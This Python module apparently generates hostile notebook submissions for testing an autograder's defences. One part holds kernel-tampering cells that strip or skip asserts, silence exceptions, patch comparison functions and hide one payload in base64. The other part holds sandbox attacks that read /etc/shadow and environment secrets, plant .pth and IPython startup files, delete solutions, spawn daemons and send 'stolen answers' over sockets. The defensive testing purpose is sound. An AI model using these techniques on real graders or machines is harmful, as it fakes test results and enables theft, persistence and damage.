"""The code of each hostile submission: one per way of tampering with the kernel, one per attack on the machine.

Each is a learner's cell, added to a notebook by helpers.teach.crafted. Tampering cases go into
the untouched exercise (they would gain marks undetected); sandbox attacks go into a copy of the
solution (it must keep full marks while every attack fails).
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

MARKER = "course-crafted-daemon"  # a process left running would carry this in its command line


@dataclass(frozen=True)
class Targets:
    """What the hostile submissions try to read, damage or reach."""

    course: Path
    repo: Path
    home: Path
    downloads: Path
    venv: Path
    port: int = 0  # a TCP port on 127.0.0.1 that the tests listen on; 0: no network attack


# --- Tampering with the kernel that runs the tests: one family each, on the untouched exercise ---------

TAMPERING = {
    "input transformer": (
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['pass\\n'] if any('assert' in l or '___' in l for l in lines) else lines)"
    ),
    "AST transformer": (
        "import ast\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAsserts())"
    ),
    "replaced run_cell": (
        "_shell = get_ipython()\n"
        "_run = _shell.run_cell\n"
        "def _quiet(raw_cell, *args, **kwargs):\n"
        "    return _run('pass' if 'assert' in raw_cell or '___' in raw_cell else raw_cell, *args, **kwargs)\n"
        "_shell.run_cell = _quiet"
    ),
    "replaced showtraceback and result": (
        "_shell = get_ipython()\n"
        "_shell.showtraceback = lambda *args, **kwargs: None\n"
        "def _all_good(result):\n"
        "    result.error_in_exec = result.error_before_exec = None\n"
        "_shell.events.register('post_run_cell', _all_good)"
    ),
    "custom exception handler": (
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"
    ),
    "tracing hook": (
        "import sys, linecache\n"
        "def _local(frame, event, arg):\n"
        "    line = linecache.getline(frame.f_code.co_filename, frame.f_lineno)\n"
        "    if event == 'line' and line.lstrip().startswith('assert'):\n"
        "        try:\n"
        "            frame.f_lineno = frame.f_lineno + 1\n"
        "        except ValueError:\n"
        "            pass\n"
        "    return _local\n"
        "sys.settrace(lambda frame, event, arg: _local if 'ipykernel_' in frame.f_code.co_filename else None)"
    ),
    "patched builtins": ("import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.all = lambda iterable: True"),
    "obfuscated": (
        "import base64\n"
        "exec(base64.b64decode('"
        + __import__("base64")
        .b64encode(b"get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)")
        .decode()
        + "').decode())"
    ),
}


def library_patch(module: str) -> str:
    """A patch of a library function the hidden tests use, for ``module`` (random for 01, torch for the rest)."""
    if module.startswith(("01", "02")):
        return "import random, numpy\nrandom.gauss = lambda mu, sigma: 0.0\nnumpy.allclose = lambda *a, **k: True"
    return "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True"


# --- Attacks on the grading machine: each on a copy of the solution, which must keep full marks -----


def _snooper(t: Targets, module: str) -> str:
    reads = [
        t.course / "solutions" / module / f"{module}.ipynb",
        t.course / "gradebook.db",
        t.repo / ".git" / "config",
        t.repo / "solutions" / module / f"{module}.ipynb",
        t.home / "secret.txt",
        t.course / "submitted",
        t.downloads,
        Path("/etc/shadow"),
    ]
    return (
        "import os\n"
        f"for _p in {[str(p) for p in reads]!r}:\n"
        "    try:\n"
        "        _found = os.listdir(_p) if os.path.isdir(_p) else open(_p, 'rb').read(200)\n"
        "        print('FOUND', _p, _found)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _p, type(_e).__name__)\n"
        "print('ENV', sorted(os.environ))\n"
        "print('SECRETS', [v for k, v in os.environ.items() if 'SECRET' in k])"
    )


def _vandal(t: Targets, module: str) -> str:
    site = next((t.venv / "lib").glob("python3*/site-packages"), t.venv)
    writes = [
        (t.course / "gradebook.db", "w"),
        (t.repo / "helpers" / "__init__.py", "a"),
        (site / "evil.pth", "w"),
        (t.home / ".ipython" / "profile_default" / "startup" / "00-evil.py", "w"),
        (t.course / "planted.txt", "w"),
        (t.repo / "planted.txt", "w"),
    ]
    return (
        "import os, shutil\n"
        f"for _p, _mode in {[(str(p), m) for p, m in writes]!r}:\n"
        "    try:\n"
        "        os.makedirs(os.path.dirname(_p), exist_ok=True)\n"
        "        open(_p, _mode).write('import os  # planted by a submission\\n')\n"
        "        print('WROTE', _p)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _p, type(_e).__name__)\n"
        f"for _d in {[str(t.course / 'solutions' / module), str(t.repo / 'solutions' / module)]!r}:\n"
        "    try:\n"
        "        shutil.rmtree(_d)\n"
        "        print('DELETED', _d)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _d, type(_e).__name__)"
    )


def _daemon(_: Targets, module: str) -> str:
    sleeper = f"[sys.executable, '-c', 'import time; time.sleep(600)', '{MARKER}']"
    return (
        "import os, subprocess, sys\n"
        f"subprocess.Popen({sleeper}, start_new_session=True)\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, {sleeper})\n"
        "    os._exit(0)\n"
        "print('daemons started')"
    )


def _network(t: Targets, module: str) -> str:
    return (
        "import socket\n"
        f"for _host, _port in [('127.0.0.1', {t.port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
        "    try:\n"
        "        socket.create_connection((_host, _port), timeout=3).sendall(b'stolen answers')\n"
        "        print('CONNECTED', _host, _port)\n"
        "    except Exception as _e:\n"
        "        print('blocked', _host, _port, type(_e).__name__)"
    )


SANDBOX_ATTACKS = {
    "reads private files": ("snooper_1101", _snooper),
    "writes outside its folder": ("vandal_1102", _vandal),
    "leaves processes running": ("daemon_1103", _daemon),
    "uses the network": ("netcat_1104", _network),
    "runs out of memory": ("hog_1105", lambda t, m: "import numpy\n_big = numpy.ones(6 * 2**30 // 8)"),
    "floods the output": ("flood_1106", lambda t, m: "for _ in range(40):\n    print('x' * 2**20)"),
}
